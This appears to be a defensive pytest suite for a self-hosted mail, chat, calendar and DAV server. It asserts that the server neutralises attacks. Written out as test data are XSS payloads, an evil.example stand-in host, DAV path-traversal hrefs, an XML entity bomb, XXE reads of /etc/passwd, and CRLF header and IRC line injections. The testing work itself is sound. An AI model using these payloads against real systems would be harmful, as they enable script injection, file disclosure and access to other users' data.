"""Attack probes on what the web layer serves back, against a real ``gk serve`` over real sockets:
hostile HTML mail in the webmail reader, script in chat messages, file names and uploaded
SVG/HTML files, calendar events and contacts, URLs reflected by error pages, the CSP of each
kind of page; DAV hrefs that climb into another user's principal, Depth: infinity, entity
bombs and external entities, huge bodies; /api/v1, /v1 and /mcp with a token of the wrong
scope or another user's message id.
"""

from __future__ import annotations

import base64
import http.client
import json
import re
import urllib.parse

import pytest
from support.gkserver import NO_MAIL, GKServer, gk
from support.messages import drop_in_maildir
from test_web_http import Client

ALICE, BOB = "alice@test.example", "bob@test.example"
PW = "correct horse battery"
XSS = "<img src=x onerror=alert(1)>"
HOSTILE_HTML = """<html><head><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"></head><body>
<script>alert(1)</script><img src=x onerror=alert(2)><a href="javascript:alert(3)">j</a>
<a href="JaVaScRiPt&#58;alert(4)">j2</a><svg onload=alert(5)><script>alert(6)</script></svg>
<form action="https://evil.example/"><input name=p type=password></form><iframe src="javascript:alert(7)"></iframe>
<object data="x"></object><embed src=x><math><mi xlink:href="javascript:alert(8)">m</mi></math>
<a href="data:text/html,&lt;script&gt;alert(10)&lt;/script&gt;">d</a><body onload=alert(13)>
<noscript><p title="</noscript><img src=x onerror=alert(11)>"></noscript>
<img src="https://evil.example/track.png"><button formaction="https://evil.example">b</button>
</body></html>"""
PAGE_CSP = {"default-src 'self'", "script-src 'self'", "object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'"}


def hostile_mail() -> str:
    return (
        f"From: \"{XSS}\" <evil@else.example>\r\nTo: {ALICE}\r\nSubject: <script>alert('subject')</script>\r\n"
        "Message-ID: <x1@else.example>\r\nDate: Sun, 29 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n'
        f"{HOSTILE_HTML}\r\n--b\r\nContent-Type: text/html\r\n"
        f'Content-Disposition: attachment; filename="{XSS}.html"\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n'
    )


@pytest.fixture(scope="module")
def srv(tmp_path_factory):  # type: ignore[no-untyped-def]
    from gk import claim

    s = GKServer(
        tmp_path_factory.mktemp("attack2") / "gk",
        {**NO_MAIL, "auth": {"argon2_time_cost": 1, "argon2_memory_kib": 8192}},
    )
    s.write_config()
    s.add_user(ALICE, PW)
    s.add_user(BOB, PW)
    claim.claim(s.data_dir, "test")
    claim.complete(s.data_dir)
    drop_in_maildir(s, ALICE, hostile_mail())
    s.tokens = {
        name: gk(s.data_dir, "token", "add", who, "--scope", scope, "--label", name).stdout.strip()
        for name, who, scope in (
            ("alice_mail", ALICE, "mail:read"),
            ("bob_mail", BOB, "mail:write"),
            ("bob_chat", BOB, "chat:read"),
            ("bob_ai", BOB, "ai"),
        )
    }
    s.start()
    yield s
    s.stop()


def login(srv: GKServer, address: str) -> Client:
    c = Client(srv)
    c.login(address, PW)
    c.get("/account")  # the signed-in session's CSRF token
    return c


def post(c: Client, path: str, form: dict):  # type: ignore[no-untyped-def]
    return c.request("POST", path, form={**form, "csrf": c.csrf})


def csp(resp: http.client.HTTPResponse) -> set[str]:
    return {d.strip() for d in resp.headers["Content-Security-Policy"].split(";")}


def assert_page_csp(resp: http.client.HTTPResponse, what: str) -> None:
    got = csp(resp)
    assert PAGE_CSP <= got, (what, got)
    assert not any("unsafe-inline" in d or "unsafe-eval" in d for d in got if d.startswith("script-src")), what
    assert resp.headers["X-Content-Type-Options"] == "nosniff", what


def no_raw(page: str, *needles: str) -> None:
    for needle in needles:
        assert needle not in page, needle


# -- hostile content served back ---------------------------------------------------------------


def test_hostile_html_mail_in_the_reader(srv):
    alice = login(srv, ALICE)
    resp, page = alice.get("/mail")
    assert_page_csp(resp, "mail list")
    no_raw(page, XSS, "<script>alert")
    uid = re.findall(r"/mail/read\?folder=INBOX&amp;uid=(\d+)", page)[0]
    resp, page = alice.get(f"/mail/read?folder=INBOX&uid={uid}")
    assert resp.status == 200
    assert_page_csp(resp, "mail reader")
    no_raw(page, XSS, "<script>alert")
    assert "&lt;script&gt;alert(" in page  # the subject, shown as text
    # the body: in a sandboxed frame of its own, cleaned
    resp, body = alice.get(f"/mail/body?folder=INBOX&uid={uid}")
    assert resp.status == 200
    policy = csp(resp)
    assert "default-src 'none'" in policy and "form-action 'none'" in policy and "base-uri 'none'" in policy
    sandbox = next(d for d in policy if d.startswith("sandbox"))
    assert "allow-scripts" not in sandbox and "allow-forms" not in sandbox, sandbox
    assert body.startswith('<!doctype html><meta charset="utf-8"><base target="_blank"><style>')
    lowered = body.split("</style>", 1)[1].lower()  # the mail's part, after GK's own head
    for bad in ("<script", "<svg", "<iframe", "<object", "<embed", "<form", "<meta", "<link", "<math", "javascript:"):
        assert bad not in lowered, bad
    assert not re.search(r"<[^>]+\son\w+\s*=", lowered), "an event handler attribute survived"
    assert not re.search(r"<base[^>]+href", lowered), "a <base href> survived"
    assert "evil.example/track.png" not in body  # remote images only on request
    # the attachment named like markup: a download, never rendered
    resp, _ = alice.get(f"/mail/part?folder=INBOX&uid={uid}&part=2")
    assert resp.status == 200
    assert resp.headers["Content-Type"] == "application/octet-stream"
    assert resp.headers["Content-Disposition"].startswith("attachment;")
    assert "sandbox" in csp(resp)


def test_script_in_chat_messages_events_and_contacts_is_text(srv):
    alice = login(srv, ALICE)
    post(alice, "/chat/dm", {"user": "bob"})
    post(alice, "/chat/send", {"to": "bob", "text": f"{XSS} javascript:alert(1) <script>alert(2)</script>"})
    resp, page = login(srv, BOB).get("/chat/dm/alice")
    assert resp.status == 200
    assert_page_csp(resp, "chat")
    no_raw(page, XSS, "<script>alert", 'href="javascript:')
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    # calendar: title, location, description
    resp, _ = post(
        alice,
        "/calendar/event",
        {
            "cal": f"{ALICE}/calendar",
            "title": f"T{XSS}",
            "location": f"L{XSS}",
            "description": f"D{XSS} javascript:alert(1)",
            "start_date": "2026-12-24",
            "start_time": "10:00",
            "end_time": "11:00",
            "timezone": "Europe/Paris",
        },
    )
    assert resp.status == 303, resp.status
    for path in ("/calendar?view=month&date=2026-12-24", "/calendar?view=week&date=2026-12-24", "/calendar/tasks"):
        resp, page = alice.get(path)
        assert resp.status == 200, path
        assert_page_csp(resp, path)
        no_raw(page, XSS)
    resp, page = alice.get("/calendar?view=month&date=2026-12-24")
    link = re.search(r'/calendar/event\?(cal=[^"]*href=[^"]+)"', page)
    assert link and "T&lt;img" in page
    resp, page = alice.get("/calendar/event?" + link.group(1).replace("&amp;", "&"))
    assert resp.status == 200 and "L&lt;img" in page
    no_raw(page, XSS, 'href="javascript:')
    # contacts
    resp, _ = post(alice, "/contacts/edit", {"book": f"{ALICE}/contacts", "given": f"G{XSS}", "org": f"O{XSS}"})
    assert resp.status == 303, resp.status
    for path in ("/contacts", resp.headers["Location"]):
        resp, page = alice.get(urllib.parse.urlsplit(path)._replace(scheme="", netloc="").geturl())
        assert resp.status == 200, path
        assert_page_csp(resp, path)
        no_raw(page, XSS)
        assert "G&lt;img" in page


def _upload(c: Client, name: str, data: bytes, ctype: str) -> http.client.HTTPResponse:
    boundary = "attackboundary42"
    fields = {"to": "bob", "csrf": c.csrf}
    body = b"".join(
        f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'.encode() for k, v in fields.items()
    )
    body += (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n'
        f"Content-Type: {ctype}\r\n\r\n".encode()
        + data
        + f"\r\n--{boundary}--\r\n".encode()
    )
    conn = c.connection()
    headers = {"Content-Type": f"multipart/form-data; boundary={boundary}", "Cookie": c.cookie_header()}
    conn.request("POST", "/chat/files/upload?to=bob", body=body, headers=headers)
    resp = conn.getresponse()
    resp.read()
    conn.close()
    return resp


def test_uploaded_svg_and_html_files_are_never_rendered(srv):
    alice, bob = login(srv, ALICE), login(srv, BOB)
    post(alice, "/chat/dm", {"user": "bob"})
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
    polyglot = b"GIF89a<html><script>alert(3)</script></html>"
    for name, data, ctype in (
        (f"{XSS}.svg", svg, "image/svg+xml"),
        ("page.html", b"<script>alert(1)</script>", "text/html"),
        ("notes.txt", b"<script>alert(1)</script>", "text/plain"),
        ("pic.gif", polyglot, "text/html"),
    ):
        assert _upload(alice, name, data, ctype).status == 303, name
    _, page = bob.get("/chat/dm/alice")
    no_raw(page, XSS)
    paths = set(re.findall(r'(?:href|src)="(/chat/files/[^"]+)"', page))
    assert len(paths) == 4, paths
    for path in paths:
        resp, data = bob.get(path)
        assert resp.status == 200, path
        ctype = resp.headers["Content-Type"]
        assert "svg" not in ctype and "html" not in ctype and "xml" not in ctype, (path, ctype)
        assert resp.headers["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in csp(resp) and "default-src 'none'" in csp(resp), path
        if not ctype.startswith("image/"):
            assert resp.headers["Content-Disposition"].startswith("attachment"), path


def test_error_pages_do_not_reflect_the_url(srv):
    alice = login(srv, ALICE)
    for client in (Client(srv), alice):
        for path in (
            "/nope/%3Cscript%3Ealert(1)%3C/script%3E",
            "/mail?folder=%3Cscript%3Ealert(1)%3C/script%3E",
            "/mail/read?folder=INBOX&uid=%3Cscript%3E",
            "/chat/r/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "/login?next=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
            "/mail?notice=%3Cscript%3Ealert(1)%3C/script%3E",
        ):
            resp, page = client.get(path)
            no_raw(page, "<script>alert")
            if resp.status >= 400 or resp.status == 200:
                assert_page_csp(resp, path)
    # the login page's next= is a local path only
    c = Client(srv)
    c.get("/login?next=//evil.example/x")
    resp, _ = c.request(
        "POST", "/login", form={"address": ALICE, "password": PW, "csrf": c.csrf, "next": "//evil.example/"}
    )
    assert resp.status == 303 and "evil.example" not in resp.headers["Location"]


# -- DAV ---------------------------------------------------------------------------------------


def dav(srv: GKServer, method: str, path: str, body: bytes = b"", user: str = BOB, headers: dict | None = None):  # type: ignore[no-untyped-def]
    conn = http.client.HTTPConnection("127.0.0.1", srv.port("http.port"), timeout=30)
    auth = base64.b64encode(f"{user}:{PW}".encode()).decode()
    conn.request(
        method,
        path,
        body=body,
        headers={"Authorization": f"Basic {auth}", "Content-Type": "application/xml", **(headers or {})},
    )
    resp = conn.getresponse()
    data = resp.read()
    conn.close()
    return resp.status, data


EVENT = (
    "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//attack//EN\r\nBEGIN:VEVENT\r\nUID:{uid}\r\n"
    "DTSTAMP:20261201T000000Z\r\nDTSTART:20261224T100000Z\r\nSUMMARY:{summary}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
)
PROPFIND = b'<?xml version="1.0"?><propfind xmlns="DAV:"><allprop/></propfind>'


def test_dav_hrefs_cannot_reach_another_principal(srv):
    put = EVENT.format(uid="s1", summary="alice secret").encode()
    headers = {"Content-Type": "text/calendar"}
    assert dav(srv, "PUT", f"/dav/{ALICE}/calendar/s1.ics", put, user=ALICE, headers=headers)[0] == 201
    mine = EVENT.format(uid="b1", summary="bob").encode()
    assert dav(srv, "PUT", f"/dav/{BOB}/calendar/b1.ics", mine, headers=headers)[0] == 201
    for path in (
        f"/dav/{ALICE}/",
        f"/dav/{ALICE}/calendar/",
        f"/dav/{ALICE}/calendar/s1.ics",
        f"/dav/{BOB}/../{ALICE}/calendar/s1.ics",
        f"/dav/{BOB}/%2e%2e/{ALICE}/calendar/s1.ics",
        f"/dav/{BOB}%2f..%2f{ALICE}/calendar/s1.ics",
        f"/dav/{BOB}/calendar/..%2f..%2f{ALICE}%2fcalendar%2fs1.ics",
        f"/dav//{ALICE}/calendar/s1.ics",
        f"/dav/./{ALICE}/calendar/s1.ics",
        f"/dav/{ALICE.upper()}/calendar/s1.ics",
    ):
        for method in ("GET", "PROPFIND", "DELETE"):
            status, data = dav(srv, method, path, PROPFIND if method == "PROPFIND" else b"", headers={"Depth": "1"})
            assert status in (403, 404), (method, path, status)
            assert b"secret" not in data
    dest = f"http://127.0.0.1:{srv.port('http.port')}/dav/{ALICE}/calendar/x.ics"
    assert dav(srv, "MOVE", f"/dav/{BOB}/calendar/b1.ics", headers={"Destination": dest})[0] == 403
    dest = f"http://127.0.0.1:{srv.port('http.port')}/dav/{BOB}/../{ALICE}/calendar/x.ics"
    assert dav(srv, "COPY", f"/dav/{BOB}/calendar/b1.ics", headers={"Destination": dest})[0] in (403, 405)
    assert dav(srv, "MOVE", f"/dav/{BOB}/calendar/b1.ics", headers={"Destination": dest})[0] == 403
    update = b'<?xml version="1.0"?><propertyupdate xmlns="DAV:"><set><prop><displayname>x</displayname></prop></set></propertyupdate>'
    assert dav(srv, "PROPPATCH", f"/dav/{ALICE}/calendar/", update)[0] == 403
    assert dav(srv, "MKCALENDAR", f"/dav/{ALICE}/evil/")[0] == 403
    assert dav(srv, "GET", f"/dav/{ALICE}/calendar/s1.ics", user=ALICE)[0] == 200
    # Depth: infinity from the root lists no other principal
    status, data = dav(srv, "PROPFIND", "/dav/", PROPFIND, headers={"Depth": "infinity"})
    assert status in (207, 403) and ALICE.encode() not in data and b"secret" not in data


def test_dav_refuses_entities_and_huge_bodies(srv):
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
        b'<propfind xmlns="DAV:"><prop><displayname>&d;</displayname></prop></propfind>'
    )
    external = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        b'<propfind xmlns="DAV:"><prop><displayname>&e;</displayname></prop></propfind>'
    )
    utf16 = external.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")
    report = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        b'<C:calendar-query xmlns:C="urn:ietf:params:xml:ns:caldav" xmlns="DAV:"><prop><getetag/></prop>'
        b'<C:filter><C:comp-filter name="VCALENDAR"><C:prop-filter name="SUMMARY"><C:text-match>&e;</C:text-match>'
        b"</C:prop-filter></C:comp-filter></C:filter></C:calendar-query>"
    )
    for method, path, body in (
        ("PROPFIND", f"/dav/{BOB}/", bomb),
        ("PROPFIND", f"/dav/{BOB}/", external),
        ("PROPFIND", f"/dav/{BOB}/", utf16),
        ("REPORT", f"/dav/{BOB}/calendar/", report),
        ("PROPPATCH", f"/dav/{BOB}/calendar/", external),
    ):
        status, data = dav(srv, method, path, body, headers={"Depth": "1"})
        assert status == 400, (method, status)
        assert b"root:" not in data
    # a Content-Length far over the limit: refused before the body is read
    conn = http.client.HTTPConnection("127.0.0.1", srv.port("http.port"), timeout=30)
    conn.putrequest("PUT", f"/dav/{BOB}/calendar/big.ics")
    conn.putheader("Authorization", "Basic " + base64.b64encode(f"{BOB}:{PW}".encode()).decode())
    conn.putheader("Content-Length", str(10**10))
    conn.endheaders()
    assert conn.getresponse().status == 413
    conn.close()


# -- the APIs ----------------------------------------------------------------------------------


def api(srv: GKServer, method: str, path: str, token: str, body: dict | None = None):  # type: ignore[no-untyped-def]
    conn = http.client.HTTPConnection("127.0.0.1", srv.port("http.port"), timeout=30)
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json", "Accept": "application/json"}
    conn.request(method, path, body=json.dumps(body).encode() if body is not None else None, headers=headers)
    resp = conn.getresponse()
    data = resp.read()
    conn.close()
    return resp.status, data


def test_api_tokens_of_the_wrong_scope_or_user(srv):
    t = srv.tokens
    status, data = api(srv, "GET", "/api/v1/messages?folder=INBOX", t["alice_mail"])
    assert status == 200
    mid = json.loads(data)["messages"][0]["id"]
    # another user's message id, with a token that may read and write mail
    for method, path in (
        ("GET", f"/api/v1/messages/{mid}"),
        ("GET", f"/api/v1/messages/{mid}/raw"),
        ("GET", f"/api/v1/messages/{mid}/attachments/2"),
        ("DELETE", f"/api/v1/messages/{mid}"),
    ):
        status, data = api(srv, method, path, t["bob_mail"])
        assert status == 404, (method, path, status)
        assert b"subject" not in data
    status, _ = api(srv, "POST", f"/api/v1/messages/{mid}/flags", t["bob_mail"], {"add": ["\\Flagged"]})
    assert status in (400, 404)
    # a read-only token may not change anything; a chat or AI token may not read mail
    assert api(srv, "DELETE", f"/api/v1/messages/{mid}", t["alice_mail"])[0] == 403
    status, _ = api(srv, "POST", "/api/v1/send", t["alice_mail"], {"to": [BOB], "subject": "x", "text": "y"})
    assert status == 403
    for name in ("bob_chat", "bob_ai"):
        assert api(srv, "GET", "/api/v1/messages?folder=INBOX", t[name])[0] == 403, name
    # /v1 wants the ai scope; /mcp the mcp scope
    assert api(srv, "GET", "/v1/models", t["bob_ai"])[0] == 200
    assert api(srv, "GET", "/v1/models", t["bob_mail"])[0] in (401, 403)
    listing = {"jsonrpc": "2.0", "id": 1, "method": "tools/list"}
    for name in ("bob_mail", "bob_ai", "bob_chat"):
        assert api(srv, "POST", "/mcp", t[name], listing)[0] in (401, 403), name
    # the message is untouched
    status, data = api(srv, "GET", f"/api/v1/messages/{mid}", t["alice_mail"])
    assert status == 200


def test_a_signed_in_browser_cannot_drive_the_csrf_exempt_apis(srv):
    """The APIs skip the CSRF check because they want a bearer token or HTTP Basic on every
    request: a session cookie (what a cross-site form or fetch carries) must open none of them."""
    bob = login(srv, BOB)
    for method, path in (
        ("GET", "/api/v1/me"),
        ("POST", "/api/v1/send"),
        ("GET", "/v1/models"),
        ("POST", "/mcp"),
        ("PROPFIND", f"/dav/{BOB}/"),
        ("PUT", f"/dav/{BOB}/calendar/x.ics"),
    ):
        resp, _ = bob.request(method, path, headers={"Content-Type": "application/json"})
        assert resp.status == 401, (method, path, resp.status)
    resp, _ = bob.request("POST", "/chat/files/upload?to=alice", headers={"Content-Type": "text/plain"})
    assert resp.status == 403  # a session without its CSRF token


def test_line_breaks_in_the_compose_forms_headers_inject_nothing(srv):
    """A line break in To, Cc or Subject (a crafted form post; a browser's one-line input strips
    them) neither adds a header to the message nor crashes the send with a 500."""
    alice = login(srv, ALICE)
    alice.get("/mail/compose")
    for field in ("subject", "to", "cc"):
        form = {"to": BOB, "cc": "", "subject": f"broken {field}", "body": "hello"}
        form[field] = form[field] + f"\r\nX-Injected: {field}\r\nBcc: evil@else.example"
        if field == "cc":
            form["cc"] = f"{BOB}\r\nX-Injected: cc"
        resp, page = post(alice, "/mail/send", form)
        assert resp.status in (303, 400), (field, resp.status, page[:300])
    sent = [p.read_bytes() for p in (srv.data_dir / "mail" / BOB / "Maildir").glob("*/*") if p.is_file()]
    assert sent, "nothing was delivered"
    for raw in sent:
        head = raw.split(b"\r\n\r\n", 1)[0].split(b"\n\n", 1)[0]
        assert not re.search(rb"(?m)^(X-Injected|Bcc):", head), head


def test_a_topic_set_on_the_web_injects_no_irc_line(srv):
    """Every member's IRC connection carries what is set on the web: a line break in a topic must
    not become a line of its own there (a forged PRIVMSG from another user, a fake server reply)."""
    from support.irc import connect

    irc = connect(srv.port("chat.irc_port"), user=ALICE, password=PW, nick="alice")
    try:
        irc.send("JOIN #general")
        irc.expect(r" 366 ")
        bob = login(srv, BOB)
        post(bob, "/chat/rooms", {"name": "general"})
        forged = ":owner!owner@mx.test.example PRIVMSG #general :forged"
        resp, _ = post(bob, "/chat/r/general/topic", {"topic": f"hello\r\n{forged}\r\n:mx.test.example 001 x\nNUL\0x"})
        assert resp.status == 303
        post(bob, "/chat/send", {"to": "#general", "text": "after the topic"})
        lines = irc.until(r"PRIVMSG #general :after the topic")
        topic = [ln for ln in lines if " TOPIC #general " in ln]
        one_line = f"hello {forged} :mx.test.example 001 x NUL x"
        assert len(topic) == 1 and topic[0].endswith(f"TOPIC #general :{one_line}"), topic
        assert not any(ln.startswith((":owner!", ":mx.test.example 001")) for ln in lines), lines
        assert not any("\0" in ln for ln in lines)
    finally:
        irc.close()
